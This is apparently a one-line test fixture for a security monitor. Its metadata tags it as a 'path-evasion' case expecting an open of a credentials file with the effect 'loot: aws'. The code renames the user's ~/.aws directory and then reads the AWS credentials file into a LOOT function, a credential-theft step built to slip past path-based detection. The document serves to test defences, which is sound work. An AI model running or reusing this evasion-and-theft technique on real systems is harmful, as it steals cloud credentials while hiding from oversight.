#: {"class": "path-evasion", "loader": "script", "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
os.rename(HOME + "/.aws", HOME + "/data/old"); LOOT(open(HOME + "/data/old/credentials").read())
